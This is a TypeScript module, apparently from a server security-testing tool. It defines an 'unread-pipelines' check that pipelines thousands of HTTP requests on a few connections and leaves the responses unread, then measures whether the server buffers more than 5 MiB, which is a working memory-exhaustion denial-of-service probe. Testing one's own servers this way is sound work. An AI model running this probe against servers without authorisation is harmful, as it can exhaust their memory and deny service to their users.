import { once } from "node:events";
import { setTimeout as sleep } from "node:timers/promises";
import type { Attack } from "../attack.ts";
import { Undecided } from "../errors.ts";
import { connect } from "../http/wire.ts";
import { ownHost, type Target } from "../target.ts";

const CONNECTIONS = 4;
/** On each connection, in some 250 KB. */
const REQUESTS = 5_000;
const UNREAD_MS = 3_000;
const READ_MS = 10_000;
/** More than an operating system keeps for a connection: the rest waits in the server. */
const MAX_HELD_BYTES = 5 * 1024 * 1024;

export const unreadPipelines: Attack = {
  name: "unread-pipelines",
  about: "connections that send thousands of requests at once and read no response for a while",
  meaning: "A client with few connections can use up the memory of the server.",
  noun: "connections",
  verb: "made the server prepare megabytes of responses",
  needs: ["fresh"],

  async run(target, tally) {
    const attempts = Array.from({ length: CONNECTIONS }, async () => {
      tally.tried();
      const bytes = await heldBytes(target);
      if (bytes > MAX_HELD_BYTES) tally.gotThrough("more than 5 MiB of unread responses are kept");
    });
    await Promise.all(attempts);
  },
};

/** The size of the responses that were ready, by their Date, well before the first was read. */
async function heldBytes(target: Target): Promise<number> {
  const { address, base, signal } = target;
  const head = `GET ${base}/login HTTP/1.1\r\nHost: ${ownHost(target)}\r\n`;
  const socket = connect(address);
  const late = AbortSignal.timeout(UNREAD_MS + READ_MS);
  // A server may also reset the connection.
  const closed = once(socket, "close", { signal: late }).catch(() => undefined);
  try {
    socket.write(`${head}\r\n`.repeat(REQUESTS));
    socket.write(`${head}Connection: close\r\n\r\n`);
    await sleep(UNREAD_MS, undefined, { signal });
    const before = Date.now() - UNREAD_MS / 2;
    const chunks: Buffer[] = [];
    socket.on("data", (chunk: Buffer) => chunks.push(chunk));
    await closed;
    const text = Buffer.concat(chunks).toString("latin1");
    // Too little to be a finding, and perhaps only a refusal of the connection, which has no Date.
    if (text.length <= MAX_HELD_BYTES) return text.length;
    const dates = [...text.matchAll(/^date: (.*)\r$/gim)];
    if (dates.length === 0) throw new Undecided("responses have no Date");
    const last = dates.findLast(([, date = ""]) => Date.parse(date) < before);
    return last?.index ?? 0;
  } finally {
    socket.destroy();
  }
}
